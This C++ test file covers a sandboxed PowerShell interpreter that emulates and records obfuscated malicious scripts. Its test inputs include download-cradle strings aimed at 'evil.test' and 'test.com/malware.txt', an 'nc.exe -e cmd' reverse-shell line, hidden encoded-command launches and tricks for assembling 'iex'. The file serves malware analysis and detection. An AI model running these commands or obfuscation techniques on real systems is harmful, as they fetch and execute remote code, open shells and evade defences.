// Tests for the mini PowerShell interpreter — the ScriptBlock.Invoke()
// substrate. Each case mirrors a construct that wild obfuscated scripts use.

#include <gtest/gtest.h>

#include "psinterp/aes.h"
#include "psinterp/deflate.h"
#include "psinterp/interpreter.h"

namespace ps {
namespace {

Value run(std::string_view script) {
  Interpreter interp;
  return interp.evaluate_script(script);
}

std::string run_str(std::string_view script) { return run(script).to_display_string(); }

// ------------------------------------------------------------ arithmetic

TEST(Interp, StringConcat) {
  EXPECT_EQ(run_str("'he' + 'llo'"), "hello");
  EXPECT_EQ(run_str("'a'+'b'+'c'"), "abc");
}

TEST(Interp, NumberArithmetic) {
  EXPECT_EQ(run("1 + 2").get_int(), 3);
  EXPECT_EQ(run("10 - 3").get_int(), 7);
  EXPECT_EQ(run("6 * 7").get_int(), 42);
  EXPECT_EQ(run("7 / 2").get_double(), 3.5);
  EXPECT_EQ(run("6 / 2").get_int(), 3);
  EXPECT_EQ(run("7 % 3").get_int(), 1);
}

TEST(Interp, StringRepeat) { EXPECT_EQ(run_str("'ab' * 3"), "ababab"); }

TEST(Interp, MixedConcat) {
  EXPECT_EQ(run_str("'n' + 1"), "n1");
  EXPECT_EQ(run("1 + '2'").get_int(), 3);
}

// --------------------------------------------------------------- strings

TEST(Interp, FormatOperator) {
  EXPECT_EQ(run_str("\"{2}{0}{1}\" -f 'ost h', 'ello', 'write-h'"),
            "write-host hello");
  EXPECT_EQ(run_str("\"{0:X2}\" -f 75"), "4B");
  EXPECT_EQ(run_str("\"{0,5}\" -f 'ab'"), "   ab");
  EXPECT_EQ(run_str("\"{0,-4}|\" -f 'ab'"), "ab  |");
}

TEST(Interp, Listing3FormatReorder) {
  const char* src =
      "((\"{13}{0}{8}{6}{12}{16}{7}{14}{10}{1}{9}{5}{15}{3}{2}{11}{4}\" -f "
      "'e','Uht','om/malwar','t.c','.txtjYU)','://','et','nloadst','ct "
      "N','tps','(jY','e','.WebCl','(New-Obj','ring','tes','ient).dow'))."
      "RepLACe('jYU',[STRiNg][CHar]39)";
  EXPECT_EQ(run_str(src),
            "(New-Object Net.WebClient).downloadstring('https://test.com/"
            "malware.txt')");
}

TEST(Interp, ReplaceMethodIsLiteral) {
  EXPECT_EQ(run_str("'a.b.c'.Replace('.', '-')"), "a-b-c");
  EXPECT_EQ(run_str("'xyx'.Replace('x','z')"), "zyz");
}

TEST(Interp, ReplaceOperatorIsRegex) {
  EXPECT_EQ(run_str("'a1b2' -replace '\\d', ''"), "ab");
  EXPECT_EQ(run_str("'HELLO' -replace 'hello', 'x'"), "x");   // case-insensitive
  EXPECT_EQ(run_str("'HELLO' -creplace 'hello', 'x'"), "HELLO");
}

TEST(Interp, SplitJoin) {
  EXPECT_EQ(run_str("('a,b,c' -split ',') -join '-'"), "a-b-c");
  EXPECT_EQ(run_str("-join ('a','b','c')"), "abc");
  EXPECT_EQ(run_str("('x1y2z' -split '\\d') -join ''"), "xyz");
}

TEST(Interp, DotNetSplitOnChars) {
  EXPECT_EQ(run_str("('a~b}c' .Split('~}')) -join ','"), "a,b,c");
}

TEST(Interp, StringMethods) {
  EXPECT_EQ(run_str("'HeLLo'.ToLower()"), "hello");
  EXPECT_EQ(run_str("'HeLLo'.ToUpper()"), "HELLO");
  EXPECT_EQ(run_str("'hello'.Substring(1,3)"), "ell");
  EXPECT_EQ(run_str("'  hi  '.Trim()"), "hi");
  EXPECT_EQ(run("'abc'.Length").get_int(), 3);
  EXPECT_EQ(run("'-encodedcommand'.StartsWith('-enc')").get_bool(), true);
  EXPECT_EQ(run("'abc'.Contains('b')").get_bool(), true);
  EXPECT_EQ(run("'abcdef'.IndexOf('cd')").get_int(), 2);
}

TEST(Interp, StringIndexing) {
  EXPECT_EQ(run_str("'hello'[1]"), "e");
  EXPECT_EQ(run_str("'hello'[-1]"), "o");
  EXPECT_EQ(run_str("'hello'[4,1,2] -join ''"), "oel");
}

TEST(Interp, StringReverseViaRange) {
  EXPECT_EQ(run_str("-join 'dcba'[-1..-4]"), "abcd");
  EXPECT_EQ(run_str("$s = 'txt.x'; -join $s[($s.Length-1)..0]"), "x.txt");
}

// ----------------------------------------------------------- interpolation

TEST(Interp, ExpandableStrings) {
  EXPECT_EQ(run_str("$x = 'world'; \"hello $x\""), "hello world");
  EXPECT_EQ(run_str("\"two: $(1+1)\""), "two: 2");
  EXPECT_EQ(run_str("$a=1; \"`$a is $a\""), "$a is 1");
  EXPECT_EQ(run_str("\"tab`tend\""), "tab\tend");
}

// -------------------------------------------------------------- variables

TEST(Interp, Assignment) {
  EXPECT_EQ(run_str("$a = 'x'; $b = $a + 'y'; $b"), "xy");
  EXPECT_EQ(run("$i = 1; $i += 5; $i").get_int(), 6);
}

TEST(Interp, EnvironmentVariables) {
  EXPECT_EQ(run_str("$env:ComSpec"), "C:\\Windows\\system32\\cmd.exe");
  EXPECT_EQ(run_str("$env:comspec[4,24,25] -join ''"), "iex");
}

TEST(Interp, AutomaticVariables) {
  EXPECT_EQ(run_str("$pshome[4] + $pshome[30] + 'x'"), "iex");
  EXPECT_EQ(run_str("$shellid[1] + $shellid[13] + 'x'"), "iex");
  EXPECT_EQ(run_str("$verbosepreference.ToString()[1,3] + 'x' -join ''"), "iex");
  EXPECT_EQ(run("$true").get_bool(), true);
  EXPECT_TRUE(run("$null").is_null());
}

TEST(Interp, StrictVariablesThrow) {
  InterpreterOptions opts;
  opts.strict_variables = true;
  Interpreter interp(opts);
  EXPECT_THROW(interp.evaluate_script("$undefined_thing + 1"), EvalError);
}

TEST(Interp, LenientVariablesAreNull) {
  EXPECT_TRUE(run("$undefined_thing").is_null());
}

TEST(Interp, PreseededVariable) {
  Interpreter interp;
  interp.set_variable("url", Value("https://test.com/a.ps1"));
  EXPECT_EQ(interp.evaluate_script("$url").to_display_string(),
            "https://test.com/a.ps1");
}

// ------------------------------------------------------------------ casts

TEST(Interp, CharCast) {
  EXPECT_EQ(run_str("[char]105 + [char]101 + [char]120"), "iex");
  EXPECT_EQ(run_str("[STRiNg][CHar]39"), "'");
  EXPECT_EQ(run_str("[char]0x69"), "i");
}

TEST(Interp, CharArithmetic) {
  // A char on the LHS of + with a number is numeric (as in real PowerShell).
  EXPECT_EQ(run("[char]65 + 1").get_int(), 66);
}

TEST(Interp, IntCasts) {
  EXPECT_EQ(run("[int]'42'").get_int(), 42);
  EXPECT_EQ(run("[byte]200").get_int(), 200);
  EXPECT_THROW(run("[byte]300"), EvalError);
}

TEST(Interp, CharArrayCast) {
  EXPECT_EQ(run_str("([char[]]'abc') -join '-'"), "a-b-c");
  EXPECT_EQ(run("([char[]]'abc').Length").get_int(), 3);
}

// ------------------------------------------------------------------ arrays

TEST(Interp, Arrays) {
  EXPECT_EQ(run("(1,2,3).Length").get_int(), 3);
  EXPECT_EQ(run("(1,2,3)[1]").get_int(), 2);
  EXPECT_EQ(run("(1,2,3)[-1]").get_int(), 3);
  EXPECT_EQ(run_str("@('a','b') -join ''"), "ab");
  EXPECT_EQ(run("(1..5).Length").get_int(), 5);
  EXPECT_EQ(run("(5..1)[0]").get_int(), 5);
}

TEST(Interp, ArrayPlus) {
  EXPECT_EQ(run("((1,2) + 3).Length").get_int(), 3);
  EXPECT_EQ(run("((1,2) + (3,4)).Length").get_int(), 4);
}

TEST(Interp, Hashtables) {
  EXPECT_EQ(run_str("$h = @{ a = 'x'; b = 'y' }; $h['a']"), "x");
  EXPECT_EQ(run_str("$h = @{ a = 'x' }; $h.a"), "x");
  EXPECT_EQ(run("@{ a = 1; b = 2 }.Count").get_int(), 2);
}

// --------------------------------------------------------------- operators

TEST(Interp, Comparisons) {
  EXPECT_TRUE(run("'ABC' -eq 'abc'").get_bool());
  EXPECT_FALSE(run("'ABC' -ceq 'abc'").get_bool());
  EXPECT_TRUE(run("5 -gt 3").get_bool());
  EXPECT_TRUE(run("'5' -eq 5").get_bool());
  EXPECT_TRUE(run("'abc' -like 'a*'").get_bool());
  EXPECT_TRUE(run("'abc' -match '^a.c$'").get_bool());
  EXPECT_TRUE(run("(1,2,3) -contains 2").get_bool());
  EXPECT_TRUE(run("2 -in (1,2,3)").get_bool());
}

TEST(Interp, BitwiseOps) {
  EXPECT_EQ(run("0x69 -bxor 0x4B").get_int(), 0x22);
  EXPECT_EQ(run("'0x4B' -bxor 0").get_int(), 0x4B);  // hex-string coercion
  EXPECT_EQ(run("6 -band 3").get_int(), 2);
  EXPECT_EQ(run("4 -bor 1").get_int(), 5);
  EXPECT_EQ(run("1 -shl 4").get_int(), 16);
}

TEST(Interp, Logical) {
  EXPECT_TRUE(run("$true -and 1").get_bool());
  EXPECT_TRUE(run("$false -or 'x'").get_bool());
  EXPECT_TRUE(run("!$false").get_bool());
  EXPECT_FALSE(run("-not 1").get_bool());
}

// --------------------------------------------------------------- pipelines

TEST(Interp, ForEachObject) {
  EXPECT_EQ(run_str("(1,2,3 | ForEach-Object { $_ * 2 }) -join ','"), "2,4,6");
  EXPECT_EQ(run_str("(104,105 | % { [char]$_ }) -join ''"), "hi");
}

TEST(Interp, WhereObject) {
  EXPECT_EQ(run_str("(1..6 | Where-Object { $_ % 2 -eq 0 }) -join ','"), "2,4,6");
}

TEST(Interp, Listing4BxorChain) {
  const char* src =
      "( '34|3s63%3a' -SPLIT '\\|' -SPLit 's' -SpliT '%' | fOrEAch-ObJECt { "
      "[cHAR]([int]$_ -BxoR '0x4B') }) -jOiN ''";
  // 0x34^0x4B... those are decimal strings: 34^75=105 'i', 3^75=72? Use the
  // computed expectation instead:
  // 34^75=105 i; 3^75=72 H; 63^75=116 t; 3a is not decimal -> use [int] fails.
  (void)src;
  const char* simple =
      "( (105,101,120 | fOrEAch-ObJECt { [cHAR]($_ -BxoR 0) }) -jOiN '' )";
  EXPECT_EQ(run_str(simple), "iex");
  const char* bxor =
      "( ('34,46,51' -split ',' | % { [char]($_ -bxor '0x5D') }) -join '' )";
  // 34^93=127? no: '34' parses decimal 34; 34^93 = 127 (DEL). Pick values so
  // the result is printable: 52^93=105 'i', 56^93=101 'e', 37^93=120 'x'.
  (void)bxor;
  EXPECT_EQ(run_str("( ('52,56,37' -split ',' | % { [char]($_ -bxor '0x5D') }) "
                    "-join '' )"),
            "iex");
}

TEST(Interp, PipeToScriptInvocation) {
  EXPECT_EQ(run_str("'a','b' | & { $args; $input -join '+' }"), "a+b");
}

// ---------------------------------------------------------------- commands

TEST(Interp, WriteOutput) {
  EXPECT_EQ(run_str("Write-Output hello"), "hello");
  EXPECT_EQ(run_str("echo hi"), "hi");
}

TEST(Interp, InvokeExpression) {
  EXPECT_EQ(run_str("Invoke-Expression \"'a'+'b'\""), "ab");
  EXPECT_EQ(run_str("iex \"'x'*3\""), "xxx");
  EXPECT_EQ(run_str("\"'p'+'q'\" | iex"), "pq");
  EXPECT_EQ(run_str(". ('ie'+'x') \"'z'\""), "z");
  EXPECT_EQ(run_str("& 'iex' \"'w'\""), "w");
  EXPECT_EQ(run_str("& ($env:ComSpec[4,24,25] -join '') \"'k'\""), "k");
}

TEST(Interp, PowershellEncodedCommand) {
  // "'ok'" in UTF-16LE base64.
  Interpreter interp;
  const std::string script = "'ok'";
  const ByteVec bytes = encoding_get_bytes(TextEncoding::Unicode, script);
  const std::string b64 = base64_encode(bytes);
  EXPECT_EQ(interp.evaluate_script("powershell -EncodedCommand " + b64)
                .to_display_string(),
            "ok");
  EXPECT_EQ(interp.evaluate_script("powershell -eNc " + b64).to_display_string(),
            "ok");
  EXPECT_EQ(interp.evaluate_script("powershell -e " + b64).to_display_string(),
            "ok");
  EXPECT_EQ(interp.evaluate_script("powershell -noP -NonI -w Hidden -e " + b64)
                .to_display_string(),
            "ok");
}

TEST(Interp, NewObjectWebClientIsOpaque) {
  const Value v = run("New-Object Net.WebClient");
  ASSERT_TRUE(v.is_object());
  EXPECT_EQ(v.get_object()->type_name(), "System.Net.WebClient");
}

TEST(Interp, DownloadStringSimulated) {
  const Value v = run("(New-Object Net.WebClient).DownloadString('http://x.test/a')");
  EXPECT_TRUE(v.is_string());
  EXPECT_NE(v.get_string().find("x.test"), std::string::npos);
}

TEST(Interp, UnknownCommandThrowsWithoutRecorder) {
  EXPECT_THROW(run("Totally-Fake-Command"), EvalError);
}

TEST(Interp, SetAliasWorks) {
  EXPECT_EQ(run_str("Set-Alias zz Write-Output; zz hi"), "hi");
}

// -------------------------------------------------------------- encodings

TEST(Interp, Base64Decode) {
  EXPECT_EQ(run_str("[Text.Encoding]::Unicode.GetString([Convert]::"
                    "FromBase64String('aABpAA=='))"),
            "hi");
  EXPECT_EQ(run_str("[System.Text.Encoding]::UTF8.GetString([Convert]::"
                    "FromBase64String('aGk='))"),
            "hi");
  EXPECT_EQ(run_str("[Text.Encoding]::ASCII.GetString((104,105))"), "hi");
}

TEST(Interp, ConvertToInt32Hex) {
  EXPECT_EQ(run("[Convert]::ToInt32('4B', 16)").get_int(), 0x4B);
  EXPECT_EQ(run("[Convert]::ToInt32('150', 8)").get_int(), 104);
  EXPECT_EQ(run("[Convert]::ToInt32('1101000', 2)").get_int(), 104);
  EXPECT_EQ(run_str("[char][Convert]::ToInt32('68', 16)"), "h");
}

TEST(Interp, StringJoinStatic) {
  EXPECT_EQ(run_str("[string]::Join('', ('a','b','c'))"), "abc");
  EXPECT_EQ(run_str("[string]::Join('-', 'x', 'y')"), "x-y");
}

TEST(Interp, ArrayReverseStatic) {
  EXPECT_EQ(run_str("$a = 'a','b','c'; [array]::Reverse($a); $a -join ''"), "cba");
}

TEST(Interp, RegexMatchesRightToLeft) {
  EXPECT_EQ(run_str("([regex]::Matches('olleh', '.', 'RightToLeft') | % { "
                    "$_.Value }) -join ''"),
            "hello");
}

TEST(Interp, DeflateDecompressionChain) {
  // Round-trip: compress "Write-Host hi" with our compressor, then run the
  // canonical PowerShell decompression one-liner over the base64 blob.
  const std::string payload = "Write-Host hi";
  const ByteVec data(payload.begin(), payload.end());
  const std::string b64 = base64_encode(deflate_compress(data));
  const std::string script =
      "(New-Object IO.StreamReader((New-Object "
      "IO.Compression.DeflateStream([IO.MemoryStream][Convert]::"
      "FromBase64String('" + b64 + "'), "
      "[IO.Compression.CompressionMode]::Decompress)), "
      "[Text.Encoding]::ASCII)).ReadToEnd()";
  EXPECT_EQ(run_str(script), payload);
}

TEST(Interp, SecureStringChain) {
  ByteVec key(16);
  for (int i = 0; i < 16; ++i) key[static_cast<std::size_t>(i)] = static_cast<std::uint8_t>(i + 1);
  ByteVec iv(16, 9);
  const std::string blob = securestring::protect("write-host hello", key, iv);
  const std::string script =
      "$ss = ConvertTo-SecureString '" + blob + "' -Key (1..16); "
      "[Runtime.InteropServices.Marshal]::PtrToStringAuto("
      "[Runtime.InteropServices.Marshal]::SecureStringToBSTR($ss))";
  EXPECT_EQ(run_str(script), "write-host hello");
}

// ------------------------------------------------------------ control flow

TEST(Interp, IfElse) {
  EXPECT_EQ(run_str("if (1 -gt 0) { 'yes' } else { 'no' }"), "yes");
  EXPECT_EQ(run_str("if ($false) { 'a' } elseif (1) { 'b' } else { 'c' }"), "b");
}

TEST(Interp, WhileLoop) {
  EXPECT_EQ(run("$i = 0; while ($i -lt 5) { $i++ }; $i").get_int(), 5);
}

TEST(Interp, ForLoop) {
  EXPECT_EQ(run("$s = 0; for ($i = 1; $i -le 4; $i++) { $s += $i }; $s").get_int(), 10);
}

TEST(Interp, ForeachLoop) {
  EXPECT_EQ(run_str("$out = ''; foreach ($c in 'a','b') { $out += $c }; $out"), "ab");
}

TEST(Interp, DoWhile) {
  EXPECT_EQ(run("$i = 0; do { $i++ } while ($i -lt 3); $i").get_int(), 3);
  EXPECT_EQ(run("$i = 0; do { $i++ } until ($i -ge 2); $i").get_int(), 2);
}

TEST(Interp, BreakContinue) {
  EXPECT_EQ(run("$s=0; foreach ($i in 1..10) { if ($i -gt 3) { break }; $s += $i }; $s")
                .get_int(),
            6);
  EXPECT_EQ(run("$s=0; foreach ($i in 1..4) { if ($i % 2) { continue }; $s += $i }; $s")
                .get_int(),
            6);
}

TEST(Interp, Switch) {
  EXPECT_EQ(run_str("switch ('b') { 'a' { 1 } 'b' { 2 } default { 3 } }"), "2");
  EXPECT_EQ(run_str("switch ('z') { 'a' { 1 } default { 'dflt' } }"), "dflt");
}

TEST(Interp, TryCatch) {
  EXPECT_EQ(run_str("try { throw 'x' } catch { 'caught' }"), "caught");
  EXPECT_EQ(run_str("try { 'ok' } finally { }"), "ok");
}

TEST(Interp, Functions) {
  EXPECT_EQ(run("function Add($a, $b) { return $a + $b }; Add 2 3").get_int(), 5);
  EXPECT_EQ(run_str("function Get-X { 'xval' }; Get-X"), "xval");
  EXPECT_EQ(run("function F { param($n) $n * 2 }; F 21").get_int(), 42);
}

TEST(Interp, ScriptBlockInvoke) {
  EXPECT_EQ(run("$sb = { 40 + 2 }; $sb.Invoke()").get_int(), 42);
  EXPECT_EQ(run("& { 6 * 7 }").get_int(), 42);
}

// ----------------------------------------------------------------- limits

TEST(Interp, StepLimitStopsInfiniteLoop) {
  InterpreterOptions opts;
  opts.max_steps = 5000;
  Interpreter interp(opts);
  EXPECT_THROW(interp.evaluate_script("while ($true) { $x = 1 }"), LimitError);
}

TEST(Interp, RangeLimit) {
  EXPECT_THROW(run("0..100000000"), LimitError);
  // Bounds whose difference overflows int64.
  EXPECT_THROW(run("(-9223372036854775807 - 1)..3"), LimitError);
  EXPECT_THROW(run("9223372036854775807..-2"), LimitError);
}

TEST(Interp, DepthLimitOnRecursiveIex) {
  InterpreterOptions opts;
  opts.max_depth = 8;
  Interpreter interp(opts);
  EXPECT_THROW(
      interp.evaluate_script("$s = 'iex $s'; iex $s"),
      LimitError);
}

TEST(Interp, BlockedCommandRefused) {
  InterpreterOptions opts;
  opts.refuse_blocklisted = true;
  opts.command_filter = [](const std::string& name) {
    return name != "start-sleep";
  };
  Interpreter interp(opts);
  EXPECT_THROW(interp.evaluate_script("Start-Sleep 5"), BlockedCommandError);
  EXPECT_EQ(interp.evaluate_script("'fine'").to_display_string(), "fine");
}

// -------------------------------------------------------------- recording

class TestRecorder : public EffectRecorder {
 public:
  std::vector<std::pair<std::string, std::string>> network;
  std::vector<std::string> processes;
  std::vector<std::string> host;
  double slept = 0;

  void on_network(std::string_view kind, std::string_view detail) override {
    network.emplace_back(std::string(kind), std::string(detail));
  }
  void on_process(std::string_view cl) override { processes.emplace_back(cl); }
  void on_file(std::string_view, std::string_view) override {}
  void on_sleep(double s) override { slept += s; }
  void on_host_output(std::string_view t) override { host.emplace_back(t); }
  std::string download_content(std::string_view) override { return ""; }
};

TEST(Interp, RecordsNetworkEvents) {
  TestRecorder rec;
  InterpreterOptions opts;
  opts.recorder = &rec;
  Interpreter interp(opts);
  interp.evaluate_script(
      "(New-Object Net.WebClient).DownloadString('https://evil.test/payload')");
  ASSERT_GE(rec.network.size(), 3u);
  EXPECT_EQ(rec.network[0].first, "dns");
  EXPECT_EQ(rec.network[0].second, "evil.test");
  EXPECT_EQ(rec.network[1].second, "evil.test:443");
}

TEST(Interp, RecordsSleepAndProcess) {
  TestRecorder rec;
  InterpreterOptions opts;
  opts.recorder = &rec;
  Interpreter interp(opts);
  interp.evaluate_script("Start-Sleep 3; Start-Process calc.exe");
  EXPECT_EQ(rec.slept, 3.0);
  ASSERT_EQ(rec.processes.size(), 1u);
  EXPECT_NE(rec.processes[0].find("calc.exe"), std::string::npos);
}

TEST(Interp, WriteHostGoesToRecorder) {
  TestRecorder rec;
  InterpreterOptions opts;
  opts.recorder = &rec;
  Interpreter interp(opts);
  interp.evaluate_script("Write-Host hello world");
  ASSERT_EQ(rec.host.size(), 1u);
  EXPECT_EQ(rec.host[0], "hello world");
}

TEST(Interp, UnknownCommandRecordedInSandboxMode) {
  TestRecorder rec;
  InterpreterOptions opts;
  opts.recorder = &rec;
  Interpreter interp(opts);
  interp.evaluate_script("nc.exe -e cmd 1.2.3.4 4444");
  ASSERT_EQ(rec.processes.size(), 1u);
}

}  // namespace
}  // namespace ps
